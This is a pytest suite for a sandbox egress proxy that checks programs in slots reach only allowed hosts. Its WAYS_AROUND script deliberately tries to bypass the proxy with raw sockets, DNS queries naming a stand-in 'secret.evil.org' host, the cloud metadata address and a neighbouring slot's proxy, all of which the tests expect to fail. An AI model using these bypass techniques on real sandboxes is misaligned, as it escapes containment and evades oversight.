"""Slots with a list of hosts: what their programs reach, and every way around the proxy that we could think of."""

from __future__ import annotations

import asyncio
import contextlib
import os
import shlex
import shutil
import socket
import ssl
import subprocess
import sys
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from hermes_core.errors import ConfigError, PolicyError, UsageError
from hermes_core.plugins.hookspecs import hookimpl
from hermes_core.plugins.registry import Registrar
from hermes_core.runtime import Runtime
from hermes_core.sandbox.commands import CommandResult, Connection, Slot, SlotCommands
from hermes_core.sandbox.contract import (
    Isolation,
    Network,
    NetworkPlan,
    NetworkPolicy,
    Phase,
    Sandbox,
    SandboxConfig,
    SandboxSpec,
)
from hermes_core.sandbox.egress.proxy import EgressProxy
from hermes_core.sandbox.egress.traffic import Traffic
from hermes_core.sandbox.local.backend import LocalBackend
from hermes_core.sandbox.pool.checkpoint import Checkpoint
from hermes_core.settings import Settings
from hermes_core.tool_backend import ToolBackend
from tests.sandbox.egress.servers import hello, serving

pytestmark = pytest.mark.usefixtures("isolates")
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")

Kind = tuple[str, str, dict[str, Any]]
LOCAL: Kind = ("local", "user", {})


@pytest.fixture(
    params=["local user", *(pytest.param(each, marks=pytest.mark.full) for each in
            ("local namespace", "local private-root", "docker user", "docker dedicated"))]
)  # fmt: skip
def kind(request: pytest.FixtureRequest) -> Kind:
    """A backend, a level and settings."""
    backend, level = request.param.split()
    config = {"image": request.getfixturevalue("docker_images")[0]} if backend == "docker" else {}
    return backend, level, config


@asynccontextmanager
async def slots(kind: Kind, folder: Path, **config: Any) -> AsyncIterator[ToolBackend]:
    name, level, usual = kind
    config = {"slots_per_sandbox": 2, "max_sandboxes": 2, "min_sandboxes": 0, "reserve_slots": 0, **usual, **config}
    async with Runtime(Settings(state_dir=folder)) as runtime:
        if Isolation.parse(level) not in runtime.backend(name).capabilities.isolation:
            pytest.skip(f"this host grants no {level} on {name}")
        async with runtime.tool_backend(name, isolation=level, config=config) as backend:
            yield backend


async def run(backend: ToolBackend, slot: Slot, command: str) -> CommandResult:
    return await backend.commands(slot).run(command, merge_stderr=True, timeout_s=60)


async def fetch(backend: ToolBackend, slot: Slot, url: str) -> str:
    """What a program in a slot gets from a URL: the body, the proxy's refusal, or an OSError."""
    program = f"""
import os, urllib.error, urllib.request
os.environ.pop("no_proxy", None), os.environ.pop("NO_PROXY", None)
try: print(urllib.request.urlopen({url!r}, timeout=20).read().decode().strip())
except urllib.error.HTTPError as error: print(error.code, error.read().decode().strip())
except OSError as error: print("OSError", error)
"""
    done = await backend.commands(slot).run(["python3", "-c", program], merge_stderr=True, timeout_s=60)
    return done.text.strip()


def loopback(*ports: int) -> dict[str, Any]:
    """Settings that allow these ports of the driver's loopback."""
    return {"network": "allow", "allowed_hosts": [f"127.0.0.1:{port}" for port in ports]}


WAYS_AROUND = """
import os, socket, struct
server, neighbour = int(os.environ["SERVER"]), int(os.environ["NEIGHBOUR"])
def attempt(name, way):
    try: got = way()
    except OSError as error: got = None; why = error
    if got: print("OUT:", name, got)
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(2); sock.connect((host, port)); sock.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return sock.recv(100)
QUERY = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\\6secret\\4evil\\3org\\0" + struct.pack(">2H", 1, 1)
def udp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1); sock.sendto(QUERY, (host, port)); return sock.recv(100)
def raw(family, protocol):
    with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
        sock.settimeout(1); sock.sendto(b"\\x08\\0\\xf7\\xff" + bytes(4), (os.environ["HOST"], 0))
        return sock.recv(100)
def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.settimeout(1); return sock.recv(100)
def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(1); sock.connect((2, 1024)); return b"connected"
def abstract():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1); sock.connect("\\0" + os.environ["ABSTRACT"]); return b"connected"
def names():
    return socket.getaddrinfo("secret.evil.org", 80)
for host in ("127.0.0.1", os.environ["HOST"], "8.8.8.8", "1.1.1.1", "169.254.169.254", "172.17.0.1"):
    attempt("tcp " + host, lambda: tcp(host, server))
    attempt("dns " + host, lambda: udp(host, 53))
    attempt("dns of the driver " + host, lambda: udp(host, int(os.environ["UDP"])))
for host in ("::1", "2001:4860:4860::8888", "fe80::1"):
    attempt("tcp6 " + host, lambda: tcp(host, server, socket.AF_INET6))
    attempt("dns6 " + host, lambda: udp(host, 53, socket.AF_INET6))
attempt("icmp", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP))
attempt("icmp6", lambda: raw(socket.AF_INET6, socket.IPPROTO_ICMPV6))
attempt("raw", lambda: raw(socket.AF_INET, socket.IPPROTO_RAW))
attempt("packet", packet); attempt("vsock", vsock); attempt("abstract", abstract); attempt("names", names)
attempt("the neighbour's proxy", lambda: tcp("127.0.0.1", neighbour))
print("tried")
"""


async def test_only_allowed_hosts_are_reached(kind: Kind, tmp_path: Path) -> None:
    traffic = Traffic()
    async with (
        serving(hello) as allowed,
        serving(hello) as other,
        slots(kind, tmp_path, **loopback(allowed)) as backend,
        backend.lease(traffic=traffic) as slot,
    ):
        assert await fetch(backend, slot, f"http://127.0.0.1:{allowed}/a") == "GET /a HTTP/1.1"
        refused = await fetch(backend, slot, f"http://127.0.0.1:{other}/")
        assert refused == f"403 hermes-rl: port {other} of 127.0.0.1 is not in allowed_hosts"
        refused = await fetch(backend, slot, "http://example.org/")
        assert refused == "403 hermes-rl: example.org:80 is not in allowed_hosts"
        assert "example.org:443 is not in allowed_hosts" in await fetch(backend, slot, "https://example.org/")
    counts = traffic.of(Phase.AGENT)
    assert counts.reached == {f"127.0.0.1:{allowed}": 1}
    assert counts.refused == {f"127.0.0.1:{other}": 1, "example.org:80": 1, "example.org:443": 1}


async def test_there_is_no_way_around_the_proxy(kind: Kind, tmp_path: Path) -> None:
    """Sockets of every kind, on a host that has servers for them. Names are not resolved in the slot, either."""
    asked: list[bytes] = []

    class Hear(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
            asked.append(data)

    abstract = f"hermes-test-{os.getpid()}"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + abstract)
    listener.listen()
    udp, _ = await asyncio.get_running_loop().create_datagram_endpoint(Hear, local_addr=("0.0.0.0", 0))
    async with contextlib.AsyncExitStack() as stack:
        stack.callback(udp.close)
        stack.callback(listener.close)
        server = await stack.enter_async_context(await asyncio.start_server(hello, None, 0))
        port = server.sockets[0].getsockname()[1]
        config = {"network": "allow", "allowed_hosts": ["*", f"127.0.0.1:{port}"]}
        async with (
            slots(kind, tmp_path, **config) as backend,
            backend.lease() as slot,
            backend.lease() as neighbour,
        ):
            proxy = (await run(backend, neighbour, "echo $HTTP_PROXY")).text.strip()
            env = {
                "SERVER": str(port),
                "HOST": socket.gethostbyname(socket.gethostname()),
                "UDP": str(udp.get_extra_info("sockname")[1]),
                "ABSTRACT": abstract,
                "NEIGHBOUR": proxy.rpartition(":")[2],
            }
            done = await backend.commands(slot).run(
                ["python3", "-c", WAYS_AROUND], env=env, merge_stderr=True, timeout_s=120
            )
    # At `namespace` the neighbour's port is another loopback's, where this slot's own proxy may have the same number.
    assert [line for line in done.text.splitlines() if "hermes-rl: " not in line] == ["tried"], done.text
    assert asked == []


async def test_a_kill_closes_the_proxy_and_the_next_command_opens_it(kind: Kind, tmp_path: Path) -> None:
    async with (
        serving(hello) as server,
        slots(kind, tmp_path, **loopback(server)) as backend,
        backend.lease() as slot,
    ):
        for kill in (backend.kill_everything, backend.empty, None, backend.kill_everything):
            if kill is not None:
                await kill(slot)
            else:  # the slot's parent is one of the slot's processes
                await run(backend, slot, "kill -9 -1")
            assert await fetch(backend, slot, f"http://127.0.0.1:{server}/") == "GET / HTTP/1.1"


async def test_phases_have_policies_of_their_own(kind: Kind, tmp_path: Path) -> None:
    traffic = Traffic()
    async with serving(hello) as one, serving(hello) as two:
        config = {
            **loopback(one),
            "setup_network": {"network": "none"},
            "verify_network": {"allowed_hosts": [f"127.0.0.1:{two}"]},
        }
        async with (
            slots(kind, tmp_path, **config) as backend,
            backend.lease(traffic=traffic, phase=Phase.SETUP) as slot,
        ):

            async def reached() -> list[str]:
                answers = [await fetch(backend, slot, f"http://127.0.0.1:{port}/") for port in (one, two)]
                return ["yes" if answer == "GET / HTTP/1.1" else answer.partition(" ")[0] for answer in answers]

            assert await reached() == ["OSError", "OSError"]
            await backend.enter_phase(slot, Phase.AGENT)
            assert await reached() == ["yes", "403"]
            # A process that the agent left must not get what the verification may reach.
            await backend.enter_phase(slot, Phase.VERIFY)
            assert await reached() == ["yes", "403"]
            await backend.kill_everything(slot)
            assert await reached() == ["403", "yes"]
            answer = await fetch(backend, slot, "http://example.org/")
            assert answer == "403 hermes-rl: example.org:80 is not in verify_network.allowed_hosts"
    assert {str(phase) for phase, _ in traffic} == {"agent", "verify"}


async def test_a_new_phase_ends_the_connections_of_the_former(tmp_path: Path) -> None:
    """A program that holds a tunnel open loses it."""

    async def tick(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(b"tick\n")
            await writer.drain()
            await asyncio.sleep(0.05)

    hold = """
import os, socket, sys
port = int(os.environ["HTTP_PROXY"].rpartition(":")[2])
sock = socket.create_connection(("127.0.0.1", port)); sock.settimeout(30)
sock.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % sys.argv[1].encode())
try:
    while sock.recv(1000): print("got", flush=True)
except OSError: pass
print("over", flush=True)
"""
    async with serving(tick) as server:
        config = {**loopback(server), "setup_network": {"allowed_hosts": f"127.0.0.1:{server}"}}
        async with slots(LOCAL, tmp_path, **config) as backend, backend.lease(phase=Phase.SETUP) as slot:
            commands = backend.commands(slot)
            held = await commands.start(["python3", "-c", hold, str(server)])
            while b"got" not in (await commands.log(held.process_id)).data:
                await asyncio.sleep(0.02)
            await backend.enter_phase(slot, Phase.AGENT)
            ended = await commands.wait(held.process_id, timeout_s=30)
            assert not ended.running
            assert (await commands.log(held.process_id)).data.endswith(b"over\n")


@needs_curl
async def test_the_proxy_s_death_closes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the middle of a download, the proxy ends with an error. Nothing is reachable until it works again."""
    serve, at_work, broken = EgressProxy.serve, set[asyncio.Task[Any]](), False

    async def mortal(self: EgressProxy, connection: Connection) -> None:
        if broken:
            raise RuntimeError("the proxy is broken")
        task = asyncio.current_task()
        assert task is not None
        at_work.add(task)
        await serve(self, connection)

    async def pour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000000000\r\n\r\n")
        while True:
            writer.write(b"x" * 10000)
            await writer.drain()
            await asyncio.sleep(0.01)

    monkeypatch.setattr(EgressProxy, "serve", mortal)
    async with (
        serving(pour) as server,
        slots(LOCAL, tmp_path, **loopback(server)) as backend,
        backend.lease() as slot,
    ):
        load = f"curl -sS -m 1 -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{server}/ --noproxy "
        loading = asyncio.create_task(run(backend, slot, load.replace("-m 1 ", "") + "''"))
        while not at_work:
            await asyncio.sleep(0.02)
        broken = True
        for task in at_work:
            task.cancel()
        assert (await loading).returncode != 0
        assert (await run(backend, slot, load + "''")).returncode != 0
        assert (await run(backend, slot, load + "'*'")).returncode == 7  # it could not connect: there is no network
        broken = False
        await backend.kill_everything(slot)
        assert (await run(backend, slot, load + "''")).text.endswith("200")


async def test_an_item_s_hosts_are_limited_by_the_profile_s(tmp_path: Path) -> None:
    async with serving(hello) as one, serving(hello) as two:
        wide = NetworkPolicy(allowed_hosts=("*:*", f"127.0.0.1:{one}", f"127.0.0.1:{two}"))
        plan = NetworkPlan(wide, wide, wide)
        urls = [f"http://127.0.0.1:{port}/" for port in (one, two)]
        inside = "403 hermes-rl: 127.0.0.1 is 127.0.0.1: an address of this kind"
        expected = {
            "open": [inside, inside],  # what runs on the driver's host is the operator's to open
            "none": ["OSError", "OSError"],
            "allow": ["GET / HTTP/1.1", f"403 hermes-rl: port {two} of 127.0.0.1 is not in allowed_hosts"],
        }
        for network, answers in expected.items():
            config = loopback(one) if network == "allow" else {"network": network}
            async with slots(LOCAL, tmp_path, **config) as backend, backend.lease(network=plan) as slot:
                got = [await fetch(backend, slot, url) for url in urls]
            assert [text.startswith(answer) for text, answer in zip(got, answers, strict=True)] == [True, True], got
        narrow = NetworkPolicy(allowed_hosts=(f"127.0.0.1:{two}",))
        plan = NetworkPlan(narrow, narrow, narrow)
        async with (
            slots(LOCAL, tmp_path, **loopback(one, two)) as backend,
            backend.lease(network=plan) as slot,
        ):
            got = [await fetch(backend, slot, url) for url in urls]
        assert got == [f"403 hermes-rl: port {one} of 127.0.0.1 is not in the item's allowed_hosts", "GET / HTTP/1.1"]


@pytest.mark.long
@needs_curl
async def test_many_slots_at_once(tmp_path: Path) -> None:
    """64 slots, each with a list of its own that allows one server alone."""
    async with asyncio.timeout(240), serving(hello) as allowed, serving(hello) as other:
        config = {"slots_per_sandbox": 64, "max_sandboxes": 1, **loopback(allowed, other)}
        async with slots(LOCAL, tmp_path, **config) as backend:

            async def work(number: int) -> list[str]:
                policy = NetworkPolicy(allowed_hosts=(f"127.0.0.1:{(allowed, other)[number % 2]}",))
                async with backend.lease(network=NetworkPlan(policy, policy, policy), timeout_s=120) as slot:
                    command = "curl -sS -o /dev/null -w '%{http_code}' --noproxy '' http://127.0.0.1:"
                    return [(await run(backend, slot, f"{command}{port}/")).text[-3:] for port in (allowed, other)]

            got = await asyncio.gather(*(work(number) for number in range(64)))
    assert got == [["200", "403"], ["403", "200"]] * 32


@needs_curl
async def test_preparations_have_the_hosts_of_the_setup(tmp_path: Path) -> None:
    async with serving(hello) as server:
        config = {"network": "none", "setup_network": {"allowed_hosts": [f"127.0.0.1:{server}"]}}
        load = f"curl -sS --noproxy '' http://127.0.0.1:{server}/"

        async def build(commands: SlotCommands, directory: str) -> None:
            assert (await commands.run(f"{load} >got", cwd=directory)).ok

        async with slots(LOCAL, tmp_path, **config) as backend:
            for _ in range(2):
                async with backend.lease() as slot:
                    directory = await backend.prepare(slot, "fetched", build)
                    assert (await run(backend, slot, f"cat {directory}/got")).text == "GET / HTTP/1.1\n"
                    assert (await backend.preparation(slot).run(load)).text == "GET / HTTP/1.1\n"
                    assert (await run(backend, slot, "echo $HTTP_PROXY")).text == "\n"


@pytest.mark.skipif(shutil.which("git") is None, reason="no git")
async def test_git_and_pip_through_the_proxy(tmp_path: Path, certificate: Path) -> None:
    """git over TLS, and pip with an index that is a plain page."""
    site, work = tmp_path / "site", tmp_path / "work"
    (site / "simple/tiny").mkdir(parents=True)
    _make_wheel(site / "tiny-1.0-py3-none-any.whl")
    (site / "simple/tiny/index.html").write_text('<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>')
    commit = "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m first"
    clone = f"git clone -q --bare . {site}/repo.git && git -C {site}/repo.git update-server-info"
    subprocess.run(f"git init -q {work} && cd {work} && {commit} && {clone}", shell=True, check=True)

    async def files(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while head := await reader.readuntil(b"\r\n\r\n"):
            path = site / head.split()[1].decode().partition("?")[0].lstrip("/")
            path = path / "index.html" if path.is_dir() else path
            body, status = (path.read_bytes(), b"200 OK") if path.is_file() else (b"", b"404 No")
            kind = b"text/html" if path.suffix == ".html" else b"application/octet-stream"
            writer.write(b"HTTP/1.1 %b\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n" % (status, kind, len(body)))
            writer.write(body)
            await writer.drain()

    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificate)
    async with serving(files, context) as tls, serving(files) as plain:
        config = {**loopback(tls, plain), "visible_paths": [sys.prefix, sys.base_prefix]}
        async with slots(LOCAL, tmp_path / "state", **config) as backend, backend.lease() as slot:
            text = certificate.read_text()
            await backend.commands(slot).write_file("ca.pem", text[text.index("-----BEGIN CERT") :].encode())
            # The test's servers are on a loopback, which programs reach without a proxy unless they are told otherwise.
            proxied = "env -u NO_PROXY -u no_proxy"
            clone = f"{proxied} GIT_SSL_CAINFO=$PWD/ca.pem git clone -q https://127.0.0.1:{tls}/repo.git"
            assert (await run(backend, slot, f"{clone} && git -C repo log --format=%s")).text == "first\n"
            pip = f"{proxied} {shlex.quote(sys.executable)} -m pip --isolated install --no-deps --proxy $HTTP_PROXY"
            done = await run(
                backend, slot, f"{pip} --index-url http://127.0.0.1:{plain}/simple --target here tiny && ls here"
            )
            assert "tiny.py" in done.text, done.text
            done = await run(
                backend, slot, f"{pip} --retries 1 --index-url https://pypi.org/simple --target there tiny"
            )
            assert "pypi.org:443 is not in allowed_hosts" in done.text, done.text


def _make_wheel(path: Path) -> None:
    about = "tiny-1.0.dist-info"
    with zipfile.ZipFile(path, "w") as wheel:
        wheel.writestr("tiny.py", "")
        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
        wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{about}/RECORD", "")


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"network": "allow"}, "allowed_hosts is empty"),
        ({"allowed_hosts": "a.org"}, "network is open: use network: allow"),
        ({"network": "none", "denied_hosts": "a.org"}, "denied_hosts is set, and network is none"),
        ({"network": "allow", "allowed_hosts": "http://a.org"}, "an entry is a host"),
        ({"verify_network": {"network": "none"}}, "verify_network is set, and network is open"),
        ({"network": "none", "verify_network": {"network": "open"}}, "use none or allow"),
        ({"network": "none", "setup_network": {}}, "allowed_hosts is empty"),
        ({"network": "none", "setup_network": {"hosts": "a.org"}}, "did you mean"),
    ],
)
async def test_wrong_profiles_say_what_to_do(config: dict[str, Any], message: str, tmp_path: Path) -> None:
    async with Runtime(Settings(state_dir=tmp_path), load_entry_points=False) as runtime:
        with pytest.raises(UsageError, match=message):
            runtime.tool_backend("local", config=config)


def test_phases_can_t_have_networks_of_different_kinds() -> None:
    policy = NetworkPolicy(allowed_hosts=("a.org",))
    with pytest.raises(ConfigError, match="can't have them all"):
        NetworkPlan(NetworkPolicy(network=Network.OPEN), policy, policy)


async def test_what_can_t_be_enforced_is_refused(tmp_path: Path) -> None:
    async with Runtime(Settings(state_dir=tmp_path), load_entry_points=False) as runtime:
        assert Network.ALLOW in runtime.backend("local").capabilities.policies
        with pytest.raises(PolicyError, match="at level 'shared'"):
            runtime.tool_backend("local", isolation="shared", config=loopback(80))
        backend = runtime.tool_backend("local", isolation="shared", config={"network": "none"})
        policy = NetworkPolicy(allowed_hosts=("a.org",))
        with pytest.raises(PolicyError, match="at level 'shared'"):
            await backend.acquire(network=NetworkPlan(policy, policy, policy))


async def test_a_driver_that_takes_over_opens_the_proxy_again(tmp_path: Path) -> None:
    """With the profile's lists, for new commands. The port of the first driver is closed."""
    async with serving(hello) as server:
        settings = Settings(state_dir=tmp_path, owner="taker")
        config = {
            "slots_per_sandbox": 1,
            "min_sandboxes": 1,
            "max_sandboxes": 1,
            "reserve_slots": 0,
            **loopback(server),
        }
        ports = []
        for take_over in (False, True):
            async with Runtime(settings, load_entry_points=False) as runtime:
                with Checkpoint(tmp_path / "checkpoint", "taker") as checkpoint:
                    backend = runtime.tool_backend("local", config=config, checkpoint=checkpoint)
                    slot = (await backend.take_over())[0] if take_over else await backend.acquire()
                    assert await fetch(backend, slot, f"http://127.0.0.1:{server}/") == "GET / HTTP/1.1"
                    assert "not in allowed_hosts" in await fetch(backend, slot, "http://example.org/")
                    ports.append((await run(backend, slot, "echo $HTTP_PROXY")).text)
                    await backend.aclose(keep=not take_over)
    assert all(ports)


async def test_a_backend_sees_no_lists(tmp_path: Path) -> None:
    """Whatever a backend does for `none`, it does for `allow`."""
    seen: list[SandboxConfig] = []

    class Watched(LocalBackend):
        def levels(self, config: SandboxConfig) -> frozenset[Isolation]:
            seen.append(config)
            return super().levels(config)

        async def create(self, spec: SandboxSpec) -> Sandbox:
            seen.append(spec.config)
            return await super().create(spec)

    class Plugin:
        @hookimpl
        def hermes_register_backends(self, registry: Registrar) -> None:
            registry.add("watched", Watched)

    async with (
        Runtime(Settings(state_dir=tmp_path), plugins=[Plugin()], load_entry_points=False) as runtime,
        runtime.tool_backend("watched", config={**loopback(80), "min_sandboxes": 0}) as backend,
        backend.lease(),
    ):
        assert {config.network for config in seen} == {Network.NONE} and len(seen) > 1
        assert not any(config.allowed_hosts for config in seen)
